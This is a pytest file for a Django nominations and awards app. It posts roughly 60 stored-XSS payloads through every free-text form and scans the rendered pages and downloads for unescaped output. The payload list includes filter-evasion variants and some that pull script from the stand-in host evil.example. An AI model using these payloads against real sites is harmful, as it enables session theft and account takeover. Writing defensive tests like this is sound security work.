"""Bad input, part 3: stored cross-site scripting.

Each round types hostile payloads into every free-text field a person can fill in (through the
real forms, as the person allowed to), then opens every page that shows those fields and counts
unescaped output: a payload that holds markup characters appearing verbatim in an HTML page, an
event-handler attribute, an inline script, or a link or source starting with ``javascript:``,
``data:`` or ``vbscript:``. Downloads (CSV, JSON) must not be HTML and must keep the payloads
out of their headers.
"""

import html.parser
import re

import pytest
from django.db import transaction

from api.models import ApiToken
from awards.models import Award, EligibilityPolicy, RenewalReview
from awards.services import change_policy
from contributions.models import Contribution, ContributionKind, TechnologyArea
from nominations.models import Nomination, NominationEvent, Review
from tests.reliability.conftest import scale
from tests.reliability.input_world import World, build_world

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><svg onload=alert(1)>',
    "'><svg onload=alert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<a href=javascript:alert(1)>x</a>",
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>@import 'javascript:alert(1)';</style>",
    '<div style="background:url(javascript:alert(1))">',
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<\x00script>alert(1)</script>",
    "<script\t>alert(1)</script>",
    "{{ 7|add:7 }}<b>{{ request.user.email }}</b>",
    "{% debug %}<i>x</i>",
    "${alert(1)}<b>x</b>",
    "{{constructor.constructor('alert(1)')()}}<b>",
    "<x hx-get=//evil.example hx-trigger=load>",
    "<div data-bs-toggle=tooltip title='<img src=x onerror=alert(1)>'>",
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    'https://example.com/"><svg/onload=alert(1)>',
    "https://example.com/?q=<script>alert(1)</script>",
    "https://example.com/#'onmouseover='alert(1)",
]

# A URL field gets one of these instead when the payload is not even URL-shaped; the forms must
# refuse the non-http ones and escape the rest.
URL_PAYLOADS = [p for p in PAYLOADS if re.match(r"^\s*[a-zA-Z\t]+:", p)]

UNSAFE_SCHEME = re.compile(r"^(javascript|data|vbscript):", re.IGNORECASE)
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "srcdoc", "xlink:href"}
MARKUP = set("<>\"'")


class _Scanner(html.parser.HTMLParser):
    """Finds active content in a page: event handlers, inline scripts, unsafe link schemes."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=…>")
            if name in URL_ATTRIBUTES and value:
                compact = re.sub(r"[\x00-\x20]", "", value)
                if UNSAFE_SCHEME.match(compact):
                    self.problems.append(f"<{tag} {name}={value[:60]!r}>")
        kinds = dict(attrs)
        if tag == "script" and not kinds.get("src") and kinds.get("type") != "application/json":
            self.problems.append("inline <script>")
        if tag in ("iframe", "object", "embed", "base"):
            self.problems.append(f"<{tag}>")


def unescaped(body: str, payloads: set[str]) -> list[str]:
    """The ways user text came out active in one HTML page."""
    problems = [
        f"raw {p[:60]!r}" for p in payloads if MARKUP & set(p) and p.replace("\x00", "") in body
    ]
    scanner = _Scanner()
    scanner.feed(body)
    return problems + scanner.problems


def test_input_xss_detector_flags_active_content():
    """The scanner this test relies on sees each kind of unescaped output."""
    assert unescaped("<p>&lt;b&gt;</p>", {"<b>"}) == []
    assert unescaped("<p><b></p>", {"<b>"}) == ["raw '<b>'"]
    assert unescaped('<img src=x onerror="a()">', set()) == ["<img onerror=…>"]
    assert unescaped('<a href=" JaVa&#115;cript:x">', set()) == ["<a href=' JaVascript:x'>"]
    assert unescaped("<script>x()</script>", set()) == ["inline <script>"]
    assert unescaped('<script type="application/json">{}</script>', set()) == []


def _fill_every_field(client, world: World, chosen: dict[str, str], ids: dict) -> dict:
    """Post the payloads through the forms; returns the objects created on the way."""
    contributor_user, url_payload = world.contributor.user, chosen["url"]
    made = {}

    client.force_login(contributor_user)
    profile = {
        "display_name": chosen["display_name"][:100],
        "handle": "ada",
        "country": "KR",
        "region": "apac",
        "languages": chosen["languages"].replace(",", " ")[:40],
        "primary_area": ids["area"],
        "employer_category": "independent",
        "employer_name": chosen["employer_name"][:120],
        "date_of_birth": "1990-05-01",
        "bio": chosen["bio"],
        "is_public": "on",
        "timezone": "Asia/Seoul",
    }
    made["profile_with_link"] = client.post("/me/profile/", {**profile, "links": url_payload})
    made["profile"] = client.post("/me/profile/", {**profile, "links": "https://example.com/ok"})
    contribution = {
        "kind": ids["kind"],
        "technology_area": ids["area"],
        "title": chosen["title"][:200],
        "date": "2026-01-05",
        "description": chosen["description"],
        "quantity": "1",
        "reach": "10",
        "visibility": "public",
        "role": chosen["role"],
        "target_audience": chosen["target_audience"],
    }
    made["contribution_with_url"] = client.post(
        "/me/contributions/new/", {**contribution, "url": url_payload}
    )
    client.post(
        "/me/contributions/new/",
        {**contribution, "role": "", "target_audience": "", "url": "https://example.com/c"},
    )
    client.post("/settings/tokens/", {"name": chosen["token_name"][:100]})

    client.force_login(world.mvp)
    made["nomination_with_link"] = client.post(
        "/nominations/new/",
        {
            "candidate_name": chosen["candidate_name"][:100],
            "candidate_email": "xss.candidate@example.com",
            "technology_area": ids["category"],
            "reason": chosen["reason"],
            "evidence_urls": url_payload,
        },
    )
    client.post(
        "/nominations/new/",
        {
            "candidate_name": chosen["candidate_name"][:100],
            "candidate_email": "xss.candidate@example.com",
            "technology_area": ids["category"],
            "reason": chosen["reason"],
            "evidence_urls": f"https://example.com/evidence\n{chosen['evidence']}",
        },
    )
    client.post(
        "/nominations/new/",
        {
            "candidate_name": chosen["candidate_name"][:100],
            "candidate_email": "xss.candidate@example.com",
            "technology_area": ids["category"],
            "reason": chosen["reason"],
            "evidence_urls": "https://example.com/evidence",
        },
    )
    made["new_nomination"] = Nomination.objects.filter(
        candidate_email="xss.candidate@example.com"
    ).first()

    client.force_login(world.reviewer)
    client.post(
        f"/nominations/{world.nomination.pk}/review/",
        {
            "expertise": "4",
            "quality": "4",
            "quantity": "4",
            "impact": "4",
            "recommendation": "award",
            "comment": chosen["comment"],
        },
    )

    client.force_login(world.staff)
    client.post(
        f"/awards/renewals/{world.review_id}/decide/",
        {"decision": "not_renew", "reason": chosen["renewal_reason"][:500]},
    )
    client.post(f"/awards/{world.award.pk}/revoke/", {"reason": chosen["revoke_reason"][:500]})
    client.post(
        f"/nominations/{world.nomination.pk}/decide/",
        {"decision": "awarded", "reason": chosen["decision_reason"][:1000]},
    )
    if made["new_nomination"] is not None:
        client.force_login(world.mvp)
        client.post(
            f"/nominations/{made['new_nomination'].pk}/withdraw/",
            {"reason": chosen["withdraw_reason"][:1000]},
        )
    current = EligibilityPolicy.current()
    change_policy(
        actor=world.staff,
        # Through the service (the form's preview step needs a fingerprint): drop the NUL the
        # form would refuse.
        note=chosen["policy_note"].replace("\x00", "")[:500],
        **{name: getattr(current, name) for name in EligibilityPolicy.THRESHOLD_FIELDS},
    )
    return made


def _stored(world: World, chosen: dict) -> int:
    """How many of the free-text fields now hold their payload."""
    contributor = type(world.contributor).objects.get(pk=world.contributor.pk)
    nomination = Nomination.objects.get(pk=world.nomination.pk)
    award = Award.objects.get(pk=world.award.pk)
    review = RenewalReview.objects.get(pk=world.review_id)
    values = [
        contributor.display_name,
        contributor.bio,
        contributor.employer_name,
        " ".join(contributor.languages),
        " ".join(Contribution.objects.values_list("title", flat=True)),
        " ".join(Contribution.objects.values_list("description", flat=True)),
        " ".join(ApiToken.objects.values_list("name", flat=True)),
        " ".join(Nomination.objects.values_list("candidate_name", flat=True)),
        " ".join(Nomination.objects.values_list("reason", flat=True)),
        " ".join(
            " ".join(urls) for urls in Nomination.objects.values_list("evidence_urls", flat=True)
        ),
        " ".join(Review.objects.values_list("comment", flat=True)),
        review.decision_reason,
        award.revoked_reason,
        nomination.decision_reason,
        " ".join(NominationEvent.objects.values_list("reason", flat=True)),
        EligibilityPolicy.current().note,
    ]
    text = " ".join(values)
    return sum(1 for name, payload in chosen.items() if name != "url" and payload[:40] in text)


TEXT_FIELDS = [
    "display_name",
    "languages",
    "employer_name",
    "bio",
    "title",
    "description",
    "role",
    "target_audience",
    "token_name",
    "candidate_name",
    "reason",
    "evidence",
    "comment",
    "renewal_reason",
    "revoke_reason",
    "decision_reason",
    "withdraw_reason",
    "policy_note",
]


def _pages(world: World, made: dict) -> list[tuple[object, str]]:
    """(who, path) of every page that shows what the fields hold."""
    contributor = world.contributor
    me = contributor.user
    contribution = Contribution.objects.filter(contributor=contributor).latest("pk")
    nominee_award = Award.objects.filter(contributor=contributor).first()
    new = made.get("new_nomination")
    pages = [
        (None, f"/u/{contributor.handle}/"),
        (me, "/me/profile/"),
        (me, "/me/contributions/"),
        (me, f"/me/contributions/{contribution.pk}/edit/"),
        (me, "/me/window/"),
        (me, "/me/export/"),
        (me, "/eligibility/"),
        (me, "/notifications/"),
        (me, "/settings/tokens/"),
        (me, "/nominations/"),
        (me, f"/nominations/{world.nomination.pk}/"),
        (world.staff, "/contributors/"),
        (world.staff, f"/contributors/{contributor.handle}/"),
        (world.staff, f"/contributors/{contributor.handle}/window/"),
        (world.staff, f"/eligibility/{contributor.pk}/"),
        (world.staff, f"/nominations/{world.nomination.pk}/"),
        (world.staff, "/nominations/queue/"),
        (world.staff, "/nominations/metrics/"),
        (world.staff, "/awards/"),
        (world.staff, f"/awards/{world.award.pk}/"),
        (world.staff, f"/awards/renewals/{world.review_id}/"),
        (world.staff, "/awards/renewals/"),
        (world.staff, "/awards/policy/"),
        (world.staff, "/awards/mcc/"),
        (world.reviewer, "/nominations/reviews/"),
        (world.reviewer, f"/nominations/{world.nomination.pk}/"),
        (world.mvp, "/nominations/"),
        (None, "/api/v1/docs"),
    ]
    if new is not None:
        pages += [(world.staff, f"/nominations/{new.pk}/"), (world.mvp, f"/nominations/{new.pk}/")]
    if nominee_award is not None:
        pages += [
            (me, f"/awards/{nominee_award.pk}/certificate/"),
            (None, f"/verify/{nominee_award.certificate_code}/"),
            (world.staff, f"/awards/{nominee_award.pk}/"),
        ]
    return pages


DOWNLOADS = [
    ("contributor", "/me/export/contributions.csv"),
    ("contributor", "/me/export/profile.csv"),
    ("contributor", "/me/export/export.json"),
    ("staff", "/nominations/queue/export.csv"),
    ("contributor", "/me/import/template.csv"),
]


@pytest.fixture
def world(db):
    return build_world()


def test_input_xss_payloads_never_render_unescaped(client, world, figure):
    assert len(PAYLOADS) >= 50
    ids = {
        "kind": ContributionKind.objects.get(slug="blog-post").pk,
        "area": TechnologyArea.objects.get(slug="developer-technologies").pk,
        "category": TechnologyArea.objects.get(slug="azure").pk,
    }
    rounds = scale(3, len(PAYLOADS))
    placed = 0
    stored = 0
    rendered = 0
    used: set[str] = set()
    problems: list[str] = []
    for number in range(rounds):
        # Field i gets payload (round * 7 + i): over the full rounds every payload lands in
        # every field; each fast round still spreads many different payloads.
        chosen = {
            name: PAYLOADS[(number * 7 + index) % len(PAYLOADS)]
            for index, name in enumerate(TEXT_FIELDS)
        }
        chosen["url"] = URL_PAYLOADS[number % len(URL_PAYLOADS)]
        payloads = set(chosen.values())
        used |= payloads
        placed += len(chosen)
        with transaction.atomic():
            made = _fill_every_field(client, world, chosen, ids)
            stored += _stored(world, chosen)
            answers = [(f"POST {name}", r) for name, r in made.items() if hasattr(r, "content")]
            for who, path in _pages(world, made):
                client.logout()
                if who is not None:
                    client.force_login(who)
                answers.append((path, client.get(path)))
            for label, response in answers:
                rendered += 1
                if response.status_code >= 400:
                    problems.append(f"{label}: status {response.status_code}")
                    continue
                if "html" in response.get("Content-Type", ""):
                    body = response.content.decode()
                    problems += [f"{label}: {p}" for p in unescaped(body, payloads)]
            for who, path in DOWNLOADS:
                client.force_login(world.staff if who == "staff" else world.contributor.user)
                response = client.get(path)
                rendered += 1
                kind = response.get("Content-Type", "")
                if response.status_code != 200 or "html" in kind:
                    problems.append(f"{path}: {response.status_code} {kind}")
                headers = " ".join(f"{k}: {v}" for k, v in response.items())
                problems += [f"{path} header: {p[:40]!r}" for p in payloads if p in headers]
            transaction.set_rollback(True)

    figure(
        "Bad input",
        "Stored XSS: unescaped payloads on pages, downloads and headers",
        len(problems),
        target="0",
        ok=not problems,
        detail=(
            f"{len(used)} distinct payloads ({len(PAYLOADS)} written), {placed} placements in "
            f"{len(TEXT_FIELDS) + 1} fields ({stored} saved), {rendered} responses checked"
        ),
    )
    assert not problems, problems[:15]
    # The payloads really were saved (a form that refused them all would prove nothing).
    assert stored >= rounds * 12, stored
